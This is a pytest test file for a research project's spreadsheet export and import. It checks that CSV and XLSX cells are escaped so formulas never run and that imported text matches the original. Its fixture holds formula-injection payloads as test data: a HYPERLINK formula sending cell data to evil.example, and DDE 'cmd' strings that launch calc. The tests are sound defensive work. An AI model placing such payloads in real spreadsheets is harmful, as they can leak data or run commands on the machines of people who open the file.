"""Spreadsheets cannot carry formulas out: every .xlsx and CSV the project writes (export-cmocs,
its template, the consultation feedback templates) holds text only, and what is read back
(import-cmocs, import-feedback) is the original text."""

from __future__ import annotations

import csv
import io
import itertools
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from conftest import build_site
from living_theories.consultations import feedback_template
from living_theories.project import load_project
from living_theories.spreadsheets import (
    FORMULA_START,
    escape_cell,
    read_rows,
    table_rows,
    unescape_cell,
    write_table,
)

HOSTILE = {
    "label": '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
    "title": "@SUM(A1:A9)",
    "contexts": ["+1+cmd|' /C calc'!A0", "a second line is safe"],
    "mechanism_resources": ["-2+3"],
    "mechanism_reasonings": ["'=written with an apostrophe already"],
    "outcomes": ["=cmd|' /C calc'!A0", "'just an apostrophe"],
    "narrative": "=HYPERLINK(\"http://evil.example\",\"Open\")",
}


@pytest.fixture
def hostile(project: Path) -> Path:
    """The minimal project with formulas in every text of its draft version's last CMOC."""
    path = project / "theories/demo/v2.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["cmocs"][1].update(HOSTILE)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    assert load_project(project)[1].errors == []
    return project


def formula_free_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for value in row:
            assert value[:1] not in FORMULA_START, f"a formula in a CSV cell: {value!r}"
    return rows


def formula_free_xlsx(path: Path) -> list[list[str]]:
    with zipfile.ZipFile(path) as z:  # the file itself: no cell is stored as a formula
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = openpyxl.load_workbook(path)  # formulas are read as formulas here
    rows = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value[:1] in FORMULA_START:
                # Excel's own "text, even when edited" mark (a typed leading apostrophe)
                assert cell.quotePrefix, cell.coordinate
        rows.append(["" if c.value is None else str(c.value) for c in row])
    return rows


def test_a_cell_written_to_csv_is_never_a_formula_and_reads_back_the_same():
    alphabet = "'=+-@\t\rab "
    tried = 0
    for n in range(4):
        for chars in itertools.product(alphabet, repeat=n):
            value = "".join(chars)
            written = escape_cell(value)
            assert written[:1] not in FORMULA_START
            assert unescape_cell(written) == value
            tried += 1
    assert tried == 1 + 10 + 100 + 1000
    # A cell that merely begins with an apostrophe, typed by someone, is read as it is.
    assert unescape_cell("'tis") == "'tis"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_cmocs_writes_text_and_reads_back_the_original(hostile, cli, tmp_path, suffix):
    out = tmp_path / f"cmocs{suffix}"
    code, _, err = cli("export-cmocs", str(out), "--dir", str(hostile))
    assert code == 0, err
    if suffix == ".xlsx":
        formula_free_xlsx(out)
    else:
        formula_free_csv(out.read_text(encoding="utf-8-sig"))
    graph = load_project(hostile)[0].graph
    rows, problems = read_rows(out)
    assert problems == []
    assert [[r.cells[c] for c in r.cells] for r in rows] == table_rows(graph)


def test_import_cmocs_of_an_exported_table_gives_back_the_same_version(hostile, cli, tmp_path):
    before = yaml.safe_load((hostile / "theories/demo/v2.yaml").read_text(encoding="utf-8"))
    graph = load_project(hostile)[0].graph
    table = tmp_path / "draft.csv"
    write_table(table, [r for r in table_rows(graph) if r[1] == "2"])  # v1 is released
    assert "'=HYPERLINK" in table.read_text(encoding="utf-8-sig")  # written disarmed
    code, _, err = cli("import-cmocs", str(table), "--dir", str(hostile))
    assert code == 0, err
    after = yaml.safe_load((hostile / "theories/demo/v2.yaml").read_text(encoding="utf-8"))
    assert after["cmocs"] == before["cmocs"]


def test_feedback_template_is_formula_free_and_import_feedback_reads_the_original(
        hostile, cli, tmp_path):
    graph = load_project(hostile)[0].graph
    text = feedback_template(graph, graph.corpus.sources["round-2"])
    rows = formula_free_csv(text)
    visibility = next(r for r in rows if r[3] == "demo-visibility")
    assert visibility[4] == escape_cell(HOSTILE["label"])
    assert visibility[5] == escape_cell(HOSTILE["narrative"])
    # A comment the program itself would have written disarmed comes back as it was meant.
    visibility[6:9] = ["ICB members", "agree", escape_cell("=1+1 is how I rate it")]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    (tmp_path / "filled.csv").write_text(out.getvalue(), encoding="utf-8")
    code, _, err = cli("import-feedback", str(tmp_path / "filled.csv"), "--round", "round-2",
                       "--dir", str(hostile))
    assert code == 0, err
    data = yaml.safe_load((hostile / "evidence/feedback-round-2.yaml").read_text())
    assert [e["quote"] for e in data["evidence"]] == ["=1+1 is how I rate it"]


def test_every_spreadsheet_file_of_a_built_site_is_formula_free(hostile, tmp_path):
    run = build_site(hostile, tmp_path / "site", env={"LIVING_THEORIES_REVIEW": "1"})
    assert run.returncode == 0, run.stderr
    written = sorted((tmp_path / "site").rglob("*.csv"))
    assert len(written) == 2  # one feedback template per round
    cells = [v for path in written for row in formula_free_csv(path.read_text()) for v in row]
    assert escape_cell(HOSTILE["label"]) in cells


def test_the_shipped_template_is_formula_free(cli, tmp_path):
    for name in ("t.csv", "t.xlsx"):
        code, _, err = cli("export-cmocs", "--template", str(tmp_path / name))
        assert code == 0, err
    formula_free_csv((tmp_path / "t.csv").read_text(encoding="utf-8-sig"))
    formula_free_xlsx(tmp_path / "t.xlsx")
